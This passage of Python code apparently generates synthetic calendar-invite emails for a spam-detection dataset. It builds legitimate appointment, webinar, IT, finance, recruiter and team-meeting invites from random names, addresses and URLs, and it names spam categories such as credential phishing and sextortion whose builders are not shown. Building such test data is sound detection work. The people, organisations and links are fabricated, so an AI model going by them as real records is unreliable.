    dtitle = {'en': 'Dr. ', 'de': 'Dr. med. ', 'fr': 'Dr ', 'es': 'Dra. ' if rng.random() < .5 else 'Dr. ', 'pt': 'Dr. ', 'it': 'Dott. ',
              'tr': 'Dr. ', 'ja': '', 'ko': ''}.get(ctx.lang, 'Dr. ')
    P.update(doctor=dtitle + doc['full'] + (' 先生' if ctx.lang == 'ja' else ''),
             practice=rng.choice({'en': ['Cedar Ridge Dental', 'Millbrook Family Practice', 'Westside Medical Group', 'Parkview Vets'],
                                  'de': ['Zahnarztpraxis am Park'], 'ja': ['さくら歯科クリニック']}.get(ctx.lang, ['Clinic'])),
             restaurant=rng.choice(['Osteria da Lina', 'The Copper Pot', 'Brasserie Saint-Roch', 'Tapas 27', 'Ristorante Il Faro']),
             party=str(rng.randint(2, 8)), stylist=person(rng, ctx.slang)['first'], salon=rng.choice(['Studio Shear', 'Cut & Colour', 'Salon Lumière']),
             plate=rng.choice(['KX19 ZTR', 'LD21 HMV', 'RE68 BXK']), pet=rng.choice(['Bella', 'Max', 'Luna', 'Oscar']),
             addr={'en': '12 High Street', 'de': 'Hauptstraße 45', 'fr': '8 rue des Lilas', 'es': 'Calle Mayor 10', 'it': 'Via Roma 21',
                   'pt': 'Rua das Flores 88', 'ja': '東京都港区芝5-12-3 2F', 'ko': '서울시 강남구 테헤란로 152', 'tr': 'Bağdat Cad. No:210 Kadıköy',
                   'nl': 'Kerkstraat 12', 'pl': 'ul. Długa 14', 'ru': 'ул. Тверская, 12', 'zh': '上海市徐汇区漕溪北路88号'}.get(ctx.lang, ''),
             cur=CUR[ctx.lang], url='https://%s/a/%s' % (sched[1], ralnum(rng, 12)))
    P['amount'] = money(rng, 20, 150, ctx.lang)
    P['phone'] = phone(rng, ctx.lang)
    if m.client == 'app':
        m.kind = 'corp'
        m.sender = (P['practice'] if kind in ('doctor', 'vet') else P['restaurant'] if kind == 'restaurant' else P['salon'],
                    'noreply@' + rng.choice([sched[1], 'notifications.' + sched[1]]))
        m.org_name = sched[0]
        P['sender'] = m.sender[0]
        P['sfirst'] = m.sender[0]
        P['scompany'] = sched[0]
        app_cfg(rng, m, 'booking', sched[0], sched[1])
        m.method = rng.choice(['PUBLISH', 'REQUEST', 'PUBLISH', None])
        app_quirks(rng, m, 0.3)
    else:
        k = 'freemail' if kind in ('vet', 'salon') and rng.random() < 0.6 else 'corp'
        ham_sender(ctx, k)
        P['sfirst'] = ctx.sp['first']
    hours = (18, 21) if kind == 'restaurant' else (8, 17)
    ev = ham_event(ctx, e['sum'], e['desc'], P.get('addr', ''), days=(1, 30), hours=hours, dur=rng.choice([30, 45, 60, 90]),
                   weekend=(kind in ('restaurant', 'salon')))
    if m.client == 'app':
        ev.attendees = [] if m.method != 'REQUEST' else [dict(name=ctx.rc['full'], addr=ctx.rc['addr'], partstat='NEEDS-ACTION', role='REQ-PARTICIPANT', rsvp=False)]
        if rng.random() < 0.6:
            ev.alarms.append(dict(trigger='-P1D' if rng.random() < 0.5 else '-PT2H'))
        if e.get('sub'):
            m.subject = fill(e['sub'], P)
        m.plain = ev.description + '\n'


def h_webinar(ctx):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    kind = e.get('kind')
    v = rng.choice(VENDORS)
    P.update(email_v='webinars@' + v[1], zoomurl=zoom_url(rng, True), conf=rng.choice(['CloudSummit', 'DataWorld', 'SecureOps', 'DevDays']),
             product=rng.choice(['Flowbase 5', 'Lumen Insights', 'SecureLayer Edge']), url='https://events.%s/%s' % (v[1], ralnum(rng, 8)))
    if m.client == 'zoom' or (kind == 'zoom' and m.client == 'app'):
        ham_sender(ctx, 'corp', org=v)
    elif m.client == 'app':
        m.kind = 'corp'
        m.sender = (v[0] + ' Events', 'events@' + rng.choice(['mail.' + v[1], v[1]]))
        m.org_name = v[0]
        P['sender'] = m.sender[0]
        app_cfg(rng, m, 'saas', v[0], v[1])
        m.method = rng.choice(['PUBLISH', 'REQUEST'])
        app_quirks(rng, m, 0.25)
    else:
        ham_sender(ctx, 'corp', org=v)
    ev = ham_event(ctx, e['sum'], e['desc'], '', days=(3, 40), hours=(8, 17), dur=rng.choice([45, 60, 90, 480]))
    if m.client == 'zoom':
        zoom_wrap(ctx, ev, webinar=True, topic=ev.summary)
        if e.get('sub'):
            m.subject = fill(e['sub'], P)
    elif m.client == 'teams' or (m.client == 'exchange' and rng.random() < 0.5):
        ev.teams = teams_url(rng)
        ev.location = 'Microsoft Teams Meeting'
    elif m.client == 'google':
        ev.meet = meet_url(rng)
    if m.client == 'app' and e.get('sub'):
        m.subject = fill(e['sub'], P)
    if kind == 'big' and m.client != 'zoom':
        n = rng.randint(90, 320)
        doms = sorted(set(o[1] for lst in ORGS.values() for o in lst))
        for i in range(n):
            pp = person(rng, rng.choice(list(NAMES)))
            add_att(ev, pp['full'] if rng.random() < 0.7 else None, '%s@%s' % (local_part(rng, pp), rng.choice(doms)))
        if m.client in ('exchange', 'teams', 'outlook') and rng.random() < 0.5:
            ev.attendees = ev.attendees[:1]
            m.to = [(None, 'partners@' + m.sender[1].split('@')[1])]
            add_att(ev, 'Partners', m.to[0][1])


def h_community(ctx):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    P['place'] = rng.choice(['Riverside Park pitch 2', 'the school field', 'Sportplatz Nord', 'the rec ground'])
    kind = 'freemail' if rng.random() < 0.75 else 'corp'
    ham_sender(ctx, kind)
    P['sfirst'] = ctx.sp['first']
    P['phone'] = phone(rng, ctx.lang)
    ev = ham_event(ctx, e['sum'], e['desc'], rng.choice(['', 'School library', 'Parish hall', 'Scout hut', 'Community centre', P['place']]) if ctx.lang == 'en' else '',
                   days=(1, 10), hours=(17, 20), dur=rng.choice([60, 90, 120]), weekend=True)
    wd = ['MO', 'TU', 'WE', 'TH', 'FR', 'SA', 'SU'][ev.start.weekday()]
    if e.get('kind') == 'monthly':
        ev.rrule = rng.choice(['FREQ=MONTHLY;BYDAY=1%s' % wd, 'FREQ=MONTHLY;BYDAY=-1%s' % wd, 'FREQ=MONTHLY;INTERVAL=1;BYDAY=2%s' % wd])
    else:
        ev.rrule = rng.choice(['FREQ=WEEKLY;BYDAY=%s' % wd, 'FREQ=WEEKLY', 'FREQ=WEEKLY;INTERVAL=1;BYDAY=%s' % wd, 'FREQ=WEEKLY;WKST=MO;BYDAY=%s' % wd])
    # whole group invited
    for _ in range(rng.randint(3, 25)):
        pp = person(rng, ctx.slang)
        add_att(ev, pp['full'] if rng.random() < 0.5 else None, '%s@%s' % (local_part(rng, pp, True), rng.choice(FREEMAIL[ctx.slang])))
    if kind == 'corp' and rng.random() < 0.5:
        # club website script sends as the club's gmail address -> dmarc failure
        m.auth_override = {'spf': 'softfail', 'dkim': 'none'}
    if m.client == 'app':
        app_cfg(rng, m, 'script', dom=m.sender[1].split('@')[1])
        m.method = rng.choice(['REQUEST', 'PUBLISH'])
        app_quirks(rng, m, 0.3)


def h_it(ctx):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    org = pick_org(rng, ctx.lang)
    ctx.rc = rcpt_for(rng, ctx.lang, 'org', org)
    m.rcpt = (ctx.rc['full'], ctx.rc['addr'])
    m.to = [m.rcpt]
    P.update(base_P(ctx))
    dom = org[1]
    P.update(ext=str(rng.randint(2000, 7999)), itdesk='servicedesk@' + dom, sso='https://sso.%s/changepassword' % dom,
             intranet='https://intranet.%s/it/mfa' % dom, ticket='INC%07d' % rng.randint(10 ** 5, 10 ** 7), company=org[0])
    ham_sender(ctx, 'corp', org=org, display=rng.choice(['IT Service Desk', 'IT Operations', None]) if ctx.lang == 'en' else None)
    if m.sender[0] in ('IT Service Desk', 'IT Operations'):
        m.sender = (m.sender[0], rng.choice(['itsupport', 'servicedesk', 'it-operations', 'helpdesk']) + '@' + dom)
    kind = e.get('kind')
    ev = ham_event(ctx, e['sum'], e['desc'], '' if kind != 'laptop' else 'IT room', days=(2, 14), hours=(18, 22) if kind == 'maint' else (9, 16),
                   dur=rng.choice([60, 120, 240]) if kind == 'maint' else 30)
    if kind in ('maint', 'pwd'):
        ev.transp = 'TRANSPARENT'
        ev.attendees = [a for a in ev.attendees if a['addr'] == m.sender[1]]
        grp = rng.choice(['all-staff', 'everyone', 'staff', 'alle', 'allusers'])
        m.to = [(None, '%s@%s' % (grp, dom))]
        add_att(ev, None, m.to[0][1], rsvp=False)
    if kind == 'mfa' and m.client in ('teams', 'exchange'):
        ev.teams = teams_url(rng)
        ev.location = 'Microsoft Teams Meeting'
    if m.client == 'app':
        app_cfg(rng, m, 'saas', 'ServiceNow-like ITSM', dom)
        m.method = 'REQUEST'


def internal(ctx, allow_free=False):
    rng, m = ctx.rng, ctx.m
    org = pick_org(rng, ctx.lang)
    ctx.rc = rcpt_for(rng, ctx.lang, 'org', org)
    m.rcpt = (ctx.rc['full'], ctx.rc['addr'])
    m.to = [m.rcpt]
    ctx.P.update(base_P(ctx))
    ham_sender(ctx, 'corp', org=org)
    ctx.P['company'] = org[0]
    return org


def h_docshare(ctx):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    org = internal(ctx)
    dom = org[1]
    kind = e.get('kind')
    P['client'] = rng.choice(['Northwind', 'Oakhurst', 'Crestline', 'Valmont', 'Kranich'])
    P['figma'] = 'https://www.figma.com/file/%s/Onboarding-v3?node-id=%d-%d' % (ralnum(rng, 22, string.ascii_letters + string.digits), rng.randint(1, 99), rng.randint(1, 999))
    P['url'] = {'link': 'https://%s.sharepoint.com/:f:/s/Legal/%s' % (dom.split('.')[0].replace('-', ''), rb64(rng, 40).replace('/', 'x').replace('+', '-')),
                'sharepoint': 'https://%s.sharepoint.com/:x:/r/sites/Finance/Shared%%20Documents/%s.xlsx?d=w%s&csf=1&web=1' % (dom.split('.')[0].replace('-', ''), ralnum(rng, 8), rhex(rng, 32)),
                'dropbox': 'https://www.dropbox.com/scl/fo/%s/%s?rlkey=%s&dl=0' % (ralnum(rng, 25), ralnum(rng, 12), ralnum(rng, 25)),
                'nextcloud': 'https://cloud.%s/s/%s' % (dom, ralnum(rng, 15, string.ascii_letters + string.digits)),
                'gdoc': 'https://docs.google.com/document/d/%s/edit?usp=sharing' % rb64(rng, 44).replace('/', '_').replace('+', '-'),
                'figma': P['figma']}.get(kind, 'https://docs.%s/d/%s' % (dom, ralnum(rng, 10)))
    ev = ham_event(ctx, e['sum'], e['desc'], rng.choice(['', 'Meeting room 3', 'Room Galileo', 'Besprechungsraum 2']), days=(1, 10), dur=rng.choice([30, 45, 60]))
    for _ in range(rng.randint(1, 6)):
        pp = person(rng, ctx.slang)
        add_att(ev, pp['full'], '%s@%s' % (local_part(rng, pp), dom))
    if kind == 'gdoc' and m.client == 'google':
        ev.attach.append(gdoc_attach(rng, ev.summary))
    elif kind == 'gdoc':
        ev.description = ev.description + '\n' + P['url']
    if m.client == 'teams':
        ev.teams = teams_url(rng)
        ev.location = 'Microsoft Teams Meeting'
    elif m.client == 'google' and rng.random() < 0.6:
        ev.meet = meet_url(rng)
    elif m.client == 'nextcloud' and rng.random() < 0.5:
        ev.conference.append(('Talk', 'https://cloud.%s/call/%s' % (dom, ralnum(rng, 8))))
    if m.client == 'app':
        app_cfg(rng, m, 'saas', 'Intranet', dom)
        m.method = 'REQUEST'


def h_finance(ctx):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    kind = e.get('kind')
    if kind in ('warning',) or kind == 'call':
        rc = rcpt_for(rng, ctx.lang, 'org')
        ctx.rc = rc
        m.rcpt = (rc['full'], rc['addr'])
        m.to = [m.rcpt]
        P.update(base_P(ctx))
        org = pick_org(rng, ctx.lang, exclude=(rc['dom'],))
        ham_sender(ctx, 'corp', org=org)
        P['company'] = org[0]
    else:
        org = internal(ctx)
    dom = m.sender[1].split('@')[1]
    P['finmail'] = 'accounts.payable@' + dom
    P['cur'] = CUR[ctx.lang]
    P['amount'] = money(rng, 25, 9000, ctx.lang)
    ev = ham_event(ctx, e['sum'], e['desc'], '', days=(1, 12), hours=(9, 16), dur=rng.choice([15, 30, 60]))
    if kind in ('cutoff', 'warning', 'close'):
        ev.transp = 'TRANSPARENT'
        if kind != 'warning':
            m.to = [(None, rng.choice(['budget-owners', 'finance-team', 'managers', 'all-approvers']) + '@' + dom)]
        else:
            m.to = [(None, rng.choice(['suppliers', 'vendors', 'ap-notices']) + '@' + dom)]
            m.cc = []
        ev.attendees = [a for a in ev.attendees if a['addr'] == m.sender[1]]
        add_att(ev, None, m.to[0][1], rsvp=False)
        if kind == 'warning':
            add_att(ev, ctx.rc['full'], ctx.rc['addr'], rsvp=False)
    if kind == 'close' and m.client in ('nextcloud', 'thunderbird', 'app'):
        ev.kind = 'VTODO'
        ev.due = ev.end
        ev.end = None
        ev.transp = None
    if m.client == 'teams':
        ev.teams = teams_url(rng)
        ev.location = 'Microsoft Teams Meeting'
    if m.client == 'app':
        app_cfg(rng, m, 'saas', 'FinOps', dom)
        m.method = 'REQUEST'


def h_recruiter(ctx):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    org = pick_org(rng, ctx.lang)
    P.update(role=rng.choice({'en': ['Senior Data Engineer', 'Product Manager', 'Payroll Specialist', 'Account Executive'],
                              'es': ['Ingeniera de datos', 'Jefe de proyecto'], 'tr': ['Yazılım Mühendisi'], 'ar': ['مهندس برمجيات'],
                              'ko': ['백엔드 개발자'], 'hi': ['डेटा विश्लेषक'], 'th': ['นักวิเคราะห์ข้อมูล']}.get(ctx.lang, ['Engineer'])),
             company2=org[0], manager=person(rng, ctx.slang)['full'], manager2=person(rng, ctx.slang)['full'],
             addr=rng.choice(['Level 4, 100 Queen Street', 'Floor 12, Harbour Tower', '55 Market Square']))
    kind = e.get('kind')
    if m.client == 'app':
        ats = rng.choice(ATS)
        ham_sender(ctx, 'corp', org=org)
        m.sender = ('%s Recruiting' % org[0], 'no-reply@' + rng.choice([ats[1], 'mail.' + ats[1]]))
        m.reply_to = (ctx.sp['full'], '%s@%s' % (local_part(rng, ctx.sp), org[1]))
        app_cfg(rng, m, 'saas', ats[0], ats[1])
        m.method = 'REQUEST'
        P['url'] = 'https://app.%s/i/%s' % (ats[1], ralnum(rng, 16))
    else:
        ham_sender(ctx, 'corp' if rng.random() < 0.8 else 'freemail', org=org)
        P['url'] = 'https://careers.%s/interview/%s' % (org[1], ralnum(rng, 10))
    P['company2'] = org[0]
    ev = ham_event(ctx, e['sum'], e['desc'], P['addr'] if kind == 'onsite' else '', days=(2, 12), hours=(9, 16), dur=rng.choice([30, 45, 60]))
    if kind in ('video', 'ats'):
        if m.client == 'zoom':
            zoom_wrap(ctx, ev, webinar=False, topic=ev.summary)
        elif m.client == 'teams':
            ev.teams = teams_url(rng)
            ev.location = 'Microsoft Teams Meeting'
        elif m.client == 'google':
            ev.meet = meet_url(rng)
        else:
            ev.location = zoom_url(rng)
    if e.get('sub') and m.client == 'app':
        m.subject = fill(e['sub'], P)


def h_support(ctx):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    v = rng.choice(VENDORS)
    P.update(case=str(rng.randint(10 ** 6, 10 ** 8)), issue=rng.choice(['Export to CSV fails', 'SSO login loop', 'Sync stopped', 'Invoice PDF missing']),
             url='https://support.%s/case/%s' % (v[1], ralnum(rng, 8)))
    kind = e.get('kind')
    if m.client == 'app':
        name = {'isp': 'FibreNet Service', 'bank': 'Northbank Advisory', 'vendor': v[0] + ' Support', 'video': v[0] + ' Support'}[kind]
        dom = {'isp': 'fibrenet-service.com', 'bank': 'northbank-advisory.com'}.get(kind, v[1])
        m.kind = 'corp'
        m.sender = (name, rng.choice(['noreply', 'support', 'appointments']) + '@' + dom)
        m.org_name = name
        P['sender'] = person(rng, ctx.slang)['full']
        app_cfg(rng, m, 'saas', name, dom)
        m.method = rng.choice(['REQUEST', 'PUBLISH'])
        app_quirks(rng, m, 0.25)
    else:
        ham_sender(ctx, 'corp', org=v if kind in ('vendor', 'video') else None)
    ev = ham_event(ctx, e['sum'], e['desc'], '', days=(0, 7), hours=(8, 17), dur=rng.choice([30, 60, 240]))
    if kind == 'video':
        if m.client == 'zoom':
            zoom_wrap(ctx, ev, webinar=False, topic=ev.summary)
        elif m.client == 'teams':
            ev.teams = teams_url(rng)
            ev.location = 'Microsoft Teams Meeting'
        elif m.client == 'google':
            ev.meet = meet_url(rng)
    elif m.client == 'zoom':
        zoom_wrap(ctx, ev, webinar=False, topic=ev.summary)
    if e.get('sub') and m.client in ('app', 'zoom'):
        m.subject = fill(e['sub'], P)
    if m.client == 'app':
        m.plain = ev.description + '\n'


def h_team(ctx):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    org = internal(ctx)
    dom = org[1]
    P['client'] = rng.choice(['Northwind', 'Oakhurst', 'Crestline', 'Valmont'])
    P['cname'] = person(rng, ctx.slang)['full']
    kind = e.get('kind')
    ev = ham_event(ctx, e['sum'], e['desc'], rng.choice(['', 'Room 4.12', 'Boardroom', 'Huddle room B']), days=(1, 14),
                   dur=rng.choice([30, 60]) if kind != 'allhands' else 60)
    wd = ['MO', 'TU', 'WE', 'TH', 'FR', 'SA', 'SU'][ev.start.weekday()]
    if kind == 'weekly':
        ev.rrule = 'FREQ=WEEKLY;BYDAY=%s' % wd if m.client != 'exchange' else 'FREQ=WEEKLY;INTERVAL=1;BYDAY=%s;WKST=MO' % wd
        if rng.random() < 0.5:
            ev.rrule += ';UNTIL=%s' % (ev.start + dt.timedelta(days=rng.randint(60, 300))).strftime('%Y%m%dT%H%M%SZ')
    elif kind == 'biweekly':
        ev.rrule = 'FREQ=WEEKLY;INTERVAL=2;BYDAY=%s' % wd
    n = {'allhands': rng.randint(150, 420), 'single': rng.randint(1, 5)}.get(kind, rng.randint(1, 8))
    for _ in range(n):
        pp = person(rng, ctx.slang if rng.random() < .8 else 'en')
        add_att(ev, pp['full'], '%s@%s' % (local_part(rng, pp), dom))
    if kind == 'allhands' and rng.random() < 0.5:
        m.to = [(None, 'all-staff@' + dom)]
    if m.client == 'teams' or (m.client == 'exchange' and rng.random() < 0.4):
        ev.teams = teams_url(rng)
        ev.location = 'Microsoft Teams Meeting'
    elif m.client == 'google' and rng.random() < 0.7:
        ev.meet = meet_url(rng)
    elif m.client == 'zoom':
        zoom_wrap(ctx, ev, webinar=False, topic=ev.summary)
    if m.client == 'app':
        app_cfg(rng, m, 'saas', 'Intranet', dom)
        m.method = 'REQUEST'


def h_personal(ctx):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    ctx.rc = rcpt_for(rng, ctx.lang, 'personal')
    m.rcpt = (ctx.rc['full'], ctx.rc['addr'])
    m.to = [m.rcpt]
    P.update(base_P(ctx))
    ham_sender(ctx, 'freemail' if rng.random() < 0.8 else 'corp')
    P.update(kid=person(rng, ctx.slang)['first'], kid2=person(rng, ctx.slang)['first'],
             couple='%s & %s' % (person(rng, ctx.slang)['first'], person(rng, ctx.slang)['first']),
             url='https://www.%s/wedding' % personal_domain(rng, ctx.lang, ctx.sp),
             restaurant=rng.choice(['The Old Mill', 'Trattoria Sole', 'Gasthaus Linde', 'Le Petit Zinc']))
    kind = e.get('kind')
    if kind == 'wedding':
        st, en = pre_dates(ctx, days=(120, 400), hours=(14, 14), dur=600, weekend=True)
        ev = std_event(ctx, fill(e['sum'], P), fill(e['desc'], P), rng.choice(['Lakeside Manor', 'Villa Rosa', 'St. Mary\'s Church']), st.date(),
                       st.date() + dt.timedelta(days=1))
        ev.allday = True
    else:
        ev = ham_event(ctx, e['sum'], e['desc'], rng.choice(['', 'Our place', 'Garden', P['restaurant']]), days=(2, 25), hours=(12, 19),
                       dur=rng.choice([120, 180, 240]), weekend=True)
    for _ in range(rng.randint(0, 8)):
        pp = person(rng, ctx.slang)
        add_att(ev, pp['full'] if rng.random() < .5 else None, '%s@%s' % (local_part(rng, pp, True), rng.choice(FREEMAIL[ctx.slang])))
    if m.client == 'app':
        app_cfg(rng, m, 'saas', 'Evite-like', 'invites-party.com')
        m.method = 'REQUEST'


def h_reply(ctx):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    kind = e['kind']
    org = pick_org(rng, ctx.lang)
    ctx.rc = rcpt_for(rng, ctx.lang, 'org', org)
    m.rcpt = (ctx.rc['full'], ctx.rc['addr'])
    m.to = [m.rcpt]
    P.update(base_P(ctx))
    other_org = org if rng.random() < 0.6 else pick_org(rng, ctx.lang, exclude=(org[1],))
    ham_sender(ctx, 'corp' if m.client not in ('yahoo', 'icloud') else 'freemail', org=other_org)
    start, end = pre_dates(ctx, days=(1, 14), hours=(9, 16), dur=rng.choice([30, 60]))
    uid = uid_for(rng, m.client, org[1])
    if kind in ('REPLY', 'COUNTER'):
        m.method = kind
        ev = Ev(uid=uid, summary=fill(e['sum'], P), start=start, end=end, tz=m.sender_tz, sequence=rng.choice([0, 0, 1]))
        ev.organizer = (ctx.rc['full'], ctx.rc['addr'])
        ev.attendees = [dict(name=m.sender[0], addr=m.sender[1], partstat=e.get('partstat', 'ACCEPTED'), role='REQ-PARTICIPANT', rsvp=False)]
        ev.comment = fill(e.get('comment'), P) if e.get('comment') else None
        ev.description = ev.comment or ''
        if kind == 'COUNTER':
            ev.start = start + dt.timedelta(hours=1)
            ev.end = end + dt.timedelta(hours=1)
            ev.attendees[0]['partstat'] = 'TENTATIVE'
            m.subject = 'New Time Proposed: %s' % ev.summary
            ev.extra = ['X-MS-OLK-ORIGINALSTART;TZID="%s":%s' % (tzdata.TZS[m.sender_tz][0], start.strftime('%Y%m%dT%H%M%S')),
                        'X-MS-OLK-ORIGINALEND;TZID="%s":%s' % (tzdata.TZS[m.sender_tz][0], end.strftime('%Y%m%dT%H%M%S'))] if m.client in ('exchange', 'outlook', 'teams') else []
        m.events.append(ev)
        if m.client == 'exchange' or m.client == 'teams' or m.client == 'outlook':
            m.plain = (ev.comment + '\n') if ev.comment else ''
    else:
        m.method = 'CANCEL'
        ev = Ev(uid=uid, summary=fill(e['sum'], P), description=fill(e.get('desc', ''), P), start=start, end=end, tz=m.sender_tz,
                sequence=rng.randint(1, 3), status='CANCELLED')
        ev.organizer = (m.sender[0], m.sender[1])
        add_att(ev, ctx.rc['full'], ctx.rc['addr'])
        for _ in range(rng.randint(0, 4)):
            pp = person(rng, ctx.slang)
            add_att(ev, pp['full'], '%s@%s' % (local_part(rng, pp), other_org[1]))
        ev.priority = 1 if m.client in ('exchange', 'teams') else None
        m.events.append(ev)
    if m.client == 'app':
        app_cfg(rng, m, 'saas', 'Scheduler', org[1])
        m.appcfg['mime_method'] = m.method


def h_list(ctx):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    lhost = rng.choice(LISTHOSTS)
    lname = e.get('list', 'dev')
    ldom = lhost.split('.', 1)[1]
    laddr = '%s@%s' % (lname, lhost)
    ham_sender(ctx, rng.choice(['corp', 'freemail', 'corp']))
    P.update(talk=rng.choice(['Sparse models for calendar data', 'Graph methods in logistics', 'Robust statistics']),
             speaker=person(rng, ctx.slang)['full'], abstract='We discuss recent results and open problems.',
             room=rng.choice(['B-201', 'HS 3', '1.14', 'A102']), cur=CUR[ctx.lang], url='https://wiki.%s/%s' % (ldom, ralnum(rng, 8)))
    P['amount'] = money(rng, 20, 80, ctx.lang)
    m.to = [(None, laddr)]
    ev = ham_event(ctx, e['sum'], e['desc'], rng.choice(['', 'https://meet.jit.si/%s' % ralnum(rng, 12), 'Room B-201']), days=(2, 20),
                   hours=(9, 19), dur=rng.choice([60, 90]))
    ev.attendees = [a for a in ev.attendees if a['addr'] not in (ctx.rc['addr'], laddr)]
    add_att(ev, None, laddr)
    m.wrap_list = dict(host=lhost, name=lname, dom=ldom, addr=laddr,
                       mm=rng.choice(['mm2', 'mm3', 'sympa', 'mm3']), rewrite=rng.random() < 0.4)
    if m.client == 'app':
        app_cfg(rng, m, 'script', dom=m.sender[1].split('@')[1])
        m.method = 'REQUEST'


def h_forward(ctx):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    org = internal(ctx)
    dom = org[1]
    P['proj'] = rng.choice(['Phoenix', 'ERP migration', 'North Campus'])
    P['name'] = ctx.rc['first'] if ctx.lang not in ('ja', 'zh', 'ko', 'zt') else ctx.rc['full']
    # original organizer (someone else, maybe external)
    oorg = pick_org(rng, ctx.lang, exclude=(dom,)) if rng.random() < 0.6 else org
    op = person(rng, ctx.slang)
    orig = ('%s' % op['full'], '%s@%s' % (local_part(rng, op), oorg[1]))
    st, en = pre_dates(ctx, days=(2, 20), hours=(9, 16), dur=rng.choice([60, 90, 120]))
    ev = Ev(uid=uid_for(rng, m.client if m.client != 'app' else 'exchange', oorg[1]), summary=fill(e['sum'], P),
            description=rng.choice(['Agenda to follow.', 'Please confirm your attendance.', '', 'Dial-in details below.']),
            location=rng.choice(['Room 2.01', 'Main hall', '']), start=st, end=en, tz=m.sender_tz)
    ev.organizer = orig
    add_att(ev, m.sender[0], m.sender[1])
    for _ in range(rng.randint(1, 5)):
        pp = person(rng, ctx.slang)
        add_att(ev, pp['full'], '%s@%s' % (local_part(rng, pp), oorg[1]))
    add_att(ev, ctx.rc['full'], ctx.rc['addr'])
    m.events.append(ev)
    note = fill(e.get('note', ''), P)
    cl = m.client
    if cl in ('exchange', 'teams', 'outlook'):
        pre = {'de': 'WG: ', 'fr': 'TR: ', 'es': 'RV: ', 'it': 'I: ', 'pt': 'ENC: ', 'pl': 'PD: ', 'nl': 'FW: '}.get(ctx.lang, 'FW: ')
        m.subject = pre + ev.summary
        block = ('%s\n\n-----Original Appointment-----\nFrom: %s <%s>\nSent: %s\nTo: %s\nSubject: %s\nWhen: %s\nWhere: %s\n\n'
                 % (note, orig[0], orig[1], (m.sent - dt.timedelta(days=rng.randint(1, 5))).strftime('%A, %B %d, %Y %I:%M %p'),
                    m.sender[0], ev.summary, layout.when_str(m, ev), ev.location))
        m.wrap_fwd = dict(style='outlook', text=block)
    elif cl == 'google':
        m.client = 'gmailfwd'
        m.wrap_fwd = dict(style='gmail', note=note, orig=orig)
    else:
        m.wrap_fwd = dict(style='rfc822', note=note, orig=orig, inner_client=rng.choice(['google', 'exchange', 'zimbra', 'icloud']))


HAM_BUILD = {'travel-booking': h_travel, 'appointment-booking': h_appointment, 'vendor-webinar': h_webinar,
             'community-series': h_community, 'it-notice': h_it, 'colleague-docshare': h_docshare,
             'finance-reminder': h_finance, 'recruiter': h_recruiter, 'forwarded-invite': h_forward, 'list-copy': h_list,
             'reply-cancel': h_reply, 'personal-invite': h_personal, 'support-callback': h_support, 'team-meeting': h_team}
SPAM_BUILD = {'retail-sale-wave': b_retail, 'prize-survey-lure': b_prize, 'crypto-investment': b_crypto,
              'dating-sextortion': b_dating, 'fee-scam': b_fee, 'credential-phish': b_phish, 'callback-scam': b_callback,
              'fake-update-lure': b_fakeupdate, 'bec': b_bec, 'advance-fee': b_advance, 'task-job-scam': b_task,
              'compromised-docshare': b_docshare, 'nagging-payload': b_nagging, 'mass-invite': b_mass}

HAM_WORKHOURS = {'it-notice', 'colleague-docshare', 'finance-reminder', 'recruiter', 'forwarded-invite', 'reply-cancel',
                 'team-meeting', 'vendor-webinar', 'support-callback'}


def build_msg(rng, side, cat, lang, e, client, idx):
    ctx = Ctx()
    ctx.rng, ctx.side, ctx.cat, ctx.lang, ctx.e = rng, side, cat, lang, e
    ctx.slang = lang
    m = Msg(label=side, cat=cat, lang=lang, client=client)
    ctx.m = m
    m.sent = pick_sent(rng, side, cat, client, e, lang)
    setup(ctx)
    if side == 'ham' and cat in HAM_WORKHOURS:
        work_hours(rng, m, m.sender_tz)
    rk = 'org' if cat in ('bec', 'compromised-docshare', 'credential-phish', 'fake-update-lure') else 'mixed'
    ctx.rc = rcpt_for(rng, lang, rk)
    m.rcpt = (ctx.rc['full'], ctx.rc['addr'])
    m.to = [m.rcpt]
    ctx.P = base_P(ctx)
    if client == 'nextcloud' and rng.random() < 0.4:
        m.dkim = False
    (SPAM_BUILD if side == 'spam' else HAM_BUILD)[cat](ctx)
    m.rcpt = (ctx.rc['full'], ctx.rc['addr'])
    if side == 'ham' and cat in ('finance-reminder', 'it-notice', 'colleague-docshare', 'team-meeting') and \
            m.client in ('thunderbird', 'nextcloud', 'zimbra', 'sogo') and len(m.events) == 1 and not m.events[0].rrule and \
            m.events[0].kind == 'VEVENT' and rng.random() < 0.6:
        ev = m.events[0]
        ev.kind = 'VTODO'
        ev.due = ev.end
        ev.end = None
        ev.transp = None
        ev.location = ''
    if m.client == 'zoom' and m.events and 'zoom.us/' not in (m.events[0].location or ''):
        zoom_wrap(ctx, m.events[0], webinar=rng.random() < 0.5, topic=m.events[0].summary)
    if m.client == 'nextcloud' and not getattr(m, 'cloudhost', None):
        sd = m.sender[1].split('@')[1]
        if m.kind in ('freemail',) or sd in FREEMAIL_ALL:
            m.cloudhost = rng.choice(['nc%d.cloudbox-hosting.com' % rng.randint(1, 40), 'use%02d.thecloudstore.net' % rng.randint(1, 20),
                                      'cloud.%s' % personal_domain(rng, ctx.lang, person(rng, ctx.lang))])
        else:
            m.cloudhost = rng.choice(['cloud.', 'nextcloud.', 'nc.', 'files.']) + sd
    if not m.desc:
        m.desc = describe(ctx)
    # spam occasionally reaches recipients through a mailing list they are on
    if side == 'spam' and cat in ('mass-invite', 'crypto-investment', 'prize-survey-lure', 'advance-fee') and rng.random() < 0.15 and not m.wrap_list:
        lhost = rng.choice(LISTHOSTS)
        laddr = 'members@' + lhost
        m.to = [(None, laddr)]
        m.wrap_list = dict(host=lhost, name='members', dom=lhost.split('.', 1)[1], addr=laddr, mm=rng.choice(['mm2', 'mm3']), rewrite=rng.random() < 0.5)
    return m, ctx


def describe(ctx):
